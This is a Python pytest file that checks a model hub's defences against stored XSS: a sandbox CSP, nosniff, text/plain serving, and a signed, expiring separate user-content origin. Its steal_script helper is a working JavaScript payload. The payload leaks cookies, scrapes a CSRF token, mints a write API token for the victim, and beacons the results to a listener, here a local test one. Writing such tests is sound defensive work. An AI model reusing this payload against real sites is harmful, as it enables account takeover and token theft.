"""Issue 12, item 1: user files never run as active content on the Hub's origin (stored XSS -> account takeover).

bob commits an HTML page whose script reads /settings/tokens and posts the form for a write token, an SVG with
a script and a JavaScript file; alice, logged in through the /login form in Chromium, opens each /resolve URL.
No token may appear for her and no script may run: every payload pings a tiny listener on 127.0.0.1, which
must hear nothing. The SVG still shows as an <img> in a rendered model card.

And the optional user-content origin (AGORA_USERCONTENT_URL): a browser opening a file is sent to the other
origin with a signed, expiring URL (a private file too, for a visitor who may read it); forged or expired
signatures are refused; huggingface_hub and plain HTTP clients are never redirected.
"""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from huggingface_hub import HfApi, hf_hub_download

from ..conftest import ROOT, Server, _free_port, start_server, stop_server

TIMEOUT_MS = 10_000

playwright_sync = pytest.importorskip("playwright.sync_api")
from playwright.sync_api import Browser, Page  # noqa: E402


class Listener:
    """Records the paths of requests made to it: a script that runs leaves a trace here."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


def steal_script(beacon: str, tag: str) -> str:
    """What an attacker would run: read the visitor's token page, post its form for a write token, report."""
    return f"""
(async () => {{
  const ping = (what) => {{ try {{ new Image().src = "{beacon}/{tag}-" + what; }} catch (e) {{}}
                           try {{ navigator.sendBeacon("{beacon}/{tag}-beacon-" + what); }} catch (e) {{}} }};
  ping("ran");
  document.title = "PWNED-{tag}";
  try {{ ping("cookie-" + encodeURIComponent(document.cookie)); }} catch (e) {{ ping("cookie-error"); }}
  try {{
    const who = await fetch("/api/whoami-v2", {{credentials: "include"}});
    ping("whoami-" + who.status);
    const page = await (await fetch("/settings/tokens", {{credentials: "include"}})).text();
    const csrf = (page.match(/name="csrf" value="([^"]+)"/) || [])[1];
    ping("csrf-" + csrf);
    const r = await fetch("/settings/tokens", {{method: "POST", credentials: "include",
      headers: {{"Content-Type": "application/x-www-form-urlencoded"}},
      body: "csrf=" + encodeURIComponent(csrf) + "&name=stolen-by-{tag}&role=write"}});
    ping("posted-" + r.status);
  }} catch (e) {{ ping("error-" + encodeURIComponent(String(e))); }}
}})();
"""


def login(page: Page, base: str, user: str) -> None:
    """Through the /login form, as a person would."""
    page.goto(f"{base}/login")
    page.get_by_label("User name").fill(user)
    page.get_by_label("Password").fill(f"{user}-password")
    with page.expect_navigation():
        page.get_by_role("button", name="Log in").click()
    assert page.locator("details.menu summary").inner_text().strip() == user, "not logged in"


def token_names(server: Server, user: str) -> list[str]:
    from agora.config import Settings
    from agora.db.session import Database
    from agora.hub import accounts

    db = Database(Settings.from_env(server.data).database_url)
    try:
        with db.session() as s:
            return [t.name for t in accounts.list_tokens(s, user)]
    finally:
        db.engine.dispose()


def wait_quiet(listener: Listener, seconds: float = 2.5) -> None:
    """Give a script that runs the time to report (it would within milliseconds on a local server)."""
    deadline = time.time() + seconds
    while time.time() < deadline and not listener.hits:
        time.sleep(0.1)
    time.sleep(0.3)


def check_file_headers(r: httpx.Response, inline_type: str) -> None:
    csp = r.headers.get("content-security-policy", "")
    directives = [d.strip() for d in csp.split(";")]
    assert "sandbox" in directives, f"no sandbox CSP on {r.url}: {csp!r}"
    assert "allow-same-origin" not in csp and "allow-scripts" not in csp, csp
    assert "default-src 'none'" in directives, csp
    assert r.headers.get("x-content-type-options") == "nosniff", r.headers
    assert r.headers.get("content-type", "").split(";")[0] == inline_type, (
        r.url,
        r.headers.get("content-type"),
    )


def test_malicious_files_do_not_run_for_a_logged_in_visitor(
    server: Server,
    bob: str,
    browser: Browser,  # noqa: F811
    listener: Listener,
    repo_name: str,
) -> None:
    api = HfApi(endpoint=server.url, token=bob)
    repo = f"bob/{repo_name}"
    api.create_repo(repo)
    html = f"<!doctype html><title>innocent</title><h1>hello</h1><script>{steal_script(listener.url, 'html')}</script>"
    svg = (
        "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='20'><rect width='40' height='20' fill='red'/>"
        f"<script><![CDATA[{steal_script(listener.url, 'svg')}]]></script></svg>"
    )
    page_with_js = "<!doctype html><title>js</title><script src='x.js'></script>"
    xhtml = (
        "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><script>"
        f"<![CDATA[{steal_script(listener.url, 'xhtml')}]]></script></body></html>"
    )
    for path, data in (
        ("steal.html", html),
        ("evil.svg", svg),
        ("x.js", steal_script(listener.url, "js")),
        ("loads-js.html", page_with_js),
        ("steal.xhtml", xhtml),
        ("README.md", "# Card\n\n![logo](evil.svg)\n"),
    ):
        api.upload_file(path_or_fileobj=data.encode(), path_in_repo=path, repo_id=repo)
    before = token_names(server, "alice")

    # The headers, as any client sees them.
    for path, inline in (
        ("steal.html", "text/plain"),
        ("evil.svg", "image/svg+xml"),
        ("x.js", "text/plain"),
        ("steal.xhtml", "text/plain"),
    ):
        r = httpx.get(f"{server.url}/{repo}/resolve/main/{path}", timeout=30)
        assert r.status_code == 200, r.text
        check_file_headers(r, inline)

    ctx = browser.new_context(viewport={"width": 1280, "height": 900})
    ctx.set_default_timeout(TIMEOUT_MS)
    try:
        page = ctx.new_page()
        login(page, server.url, "alice")
        ran: dict[str, list[str]] = {}
        for path in ("steal.html", "evil.svg", "x.js", "loads-js.html", "steal.xhtml"):
            page.goto(f"{server.url}/{repo}/resolve/main/{path}")
            wait_quiet(listener)
            if listener.hits or page.title().startswith("PWNED"):
                ran[path] = [page.title(), *listener.hits]
                listener.hits.clear()
        after = token_names(server, "alice")
        assert not [n for n in after if n.startswith("stolen-by")], f"a token was minted for alice: {after}"
        assert len(after) == len(before), (before, after)
        assert not ran, f"scripts ran on the Hub's origin: {ran}"
        # The SVG still works as an image in the rendered card.
        page.goto(f"{server.url}/{repo}")
        img = page.locator("img[src*='evil.svg']").first
        img.wait_for()
        page.wait_for_function("(el) => el.complete", arg=img.element_handle())
        assert img.evaluate("(el) => el.naturalWidth") > 0, "the SVG does not render as an <img>"
        wait_quiet(listener, 1.0)
        assert not listener.hits, listener.hits
    finally:
        ctx.close()


# ---- the user-content origin --------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def uc_server(server: Server) -> Iterator[tuple[Server, str]]:
    """A second process on the same data, with AGORA_USERCONTENT_URL on `localhost` (another origin than
    `127.0.0.1` for the browser) pointing back at itself."""
    port = _free_port()
    usercontent = f"http://localhost:{port}"
    log = ROOT / "usercontent-server.log"
    proc = start_server(server.data, port, log, {"AGORA_USERCONTENT_URL": usercontent, "AGORA_JOBS": "0"})
    srv = Server(f"http://127.0.0.1:{port}", server.data, proc, tokens=server.tokens, log=log)
    yield srv, usercontent
    stop_server(proc)


def test_browser_navigation_goes_to_the_usercontent_origin(
    uc_server: tuple[Server, str],
    browser: Browser,  # noqa: F811
    listener: Listener,
    repo_name: str,
) -> None:
    srv, usercontent = uc_server
    alice = srv.token("alice")
    api = HfApi(endpoint=srv.url, token=alice)
    repo = f"alice/{repo_name}"
    api.create_repo(repo, private=True)
    secret = (
        "<!doctype html><title>secret</title><h1 id=s>top secret</h1>"
        f"<script>{steal_script(listener.url, 'uc')}</script>"
    )
    svg = (
        "<svg xmlns='http://www.w3.org/2000/svg' width='30' height='10'><rect width='30' height='10'/></svg>"
    )
    for path, data in (
        ("secret.html", secret),
        ("logo.svg", svg),
        ("README.md", "# Private\n\n![logo](logo.svg)\n"),
    ):
        api.upload_file(path_or_fileobj=data.encode(), path_in_repo=path, repo_id=repo)
    url = f"{srv.url}/{repo}/resolve/main/secret.html"

    # API clients are served here, never redirected (no Fetch Metadata headers).
    r = httpx.get(url, headers={"Authorization": f"Bearer {alice}"}, timeout=30)
    assert r.status_code == 200 and r.text == secret, r.status_code
    check_file_headers(r, "text/plain")
    local = hf_hub_download(
        repo, "secret.html", token=alice, endpoint=srv.url, cache_dir=str(ROOT / f"uc-cache-{repo_name}")
    )
    assert Path(local).read_text() == secret
    from huggingface_hub import get_hf_file_metadata, hf_hub_url

    meta = get_hf_file_metadata(hf_hub_url(repo, "secret.html", endpoint=srv.url), token=alice)
    assert meta.location.startswith(srv.url), meta.location

    # A navigation by someone who may not read the repo: the same 404 as without the user-content origin.
    nav = {"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    r = httpx.get(url, headers=nav, timeout=30)
    assert r.status_code == 404 and "location" not in r.headers

    ctx = browser.new_context(viewport={"width": 1280, "height": 900})
    ctx.set_default_timeout(TIMEOUT_MS)
    try:
        page = ctx.new_page()
        login(page, srv.url, "alice")
        page.goto(url)
        assert page.url.startswith(f"{usercontent}/_usercontent/"), page.url
        assert "sig=" in page.url and "exp=" in page.url
        assert page.locator("#s").inner_text() == "top secret"  # rendered as HTML there, but without scripts
        wait_quiet(listener)
        assert not listener.hits, listener.hits
        signed = page.url
        # The private card's image loads for her (a subresource: not redirected, served under the sandbox CSP).
        page.goto(f"{srv.url}/{repo}")
        img = page.locator("img[src*='logo.svg']").first
        img.wait_for()
        page.wait_for_function("(el) => el.complete", arg=img.element_handle())
        assert img.evaluate("(el) => el.naturalWidth") > 0
    finally:
        ctx.close()

    # The signed link works without any cookie, for its few minutes; a changed one does not.
    r = httpx.get(signed, timeout=30)
    assert r.status_code == 200 and r.text == secret
    check_file_headers(r, "text/html")
    exp = int(signed.split("exp=")[1].split("&")[0])
    assert exp - time.time() <= 5 * 60 + 5
    forged = signed.replace("sig=", "sig=0")
    assert httpx.get(forged, timeout=30).status_code in (403, 404)
    other = signed.replace("/secret.html?", "/README.md?")
    assert httpx.get(other, timeout=30).status_code in (403, 404)
    unsigned = signed.split("?")[0]
    assert httpx.get(unsigned, timeout=30).status_code in (403, 404)

    from agora.config import Settings
    from agora.http.auth import Signer

    signer = Signer(Settings.from_env(srv.data).secret_key())
    path = signed.split("/_usercontent/")[1].split("?")[0]
    rev = path.split("/resolve/")[1].split("/")[0]
    old_exp, old_sig = signer.sign("usercontent", "model", *repo.split("/"), rev, "secret.html", ttl=-10)
    expired = f"{usercontent}/_usercontent/{path}?exp={old_exp}&sig={old_sig}"
    assert httpx.get(expired, timeout=30).status_code in (403, 404)
    # The user-content paths answer only on the user-content host, and that host serves nothing else.
    assert httpx.get(signed.replace(usercontent, srv.url), timeout=30).status_code == 404
    r = httpx.get(f"{usercontent}/settings/tokens", timeout=30)
    assert r.status_code == 404
    r = httpx.get(
        f"{usercontent}/{repo}/resolve/main/secret.html",
        headers={"Authorization": f"Bearer {alice}"},
        timeout=30,
    )
    assert r.status_code == 404
